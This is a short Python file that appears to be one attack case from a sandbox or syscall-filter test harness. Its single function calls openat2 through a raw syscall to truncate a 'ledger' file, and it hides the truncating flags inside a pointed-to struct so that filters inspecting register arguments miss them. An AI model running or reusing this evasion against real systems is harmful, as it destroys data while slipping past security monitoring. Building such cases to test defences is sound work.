"""Empties the ledger by a call whose mode lies behind a pointer."""

import ctypes
import os


def attack(world):
    how = (ctypes.c_uint64 * 3)(os.O_RDONLY | os.O_TRUNC, 0, 0)
    ctypes.CDLL(None).syscall(437, -100, world["ledger"].encode(), ctypes.byref(how), 24)
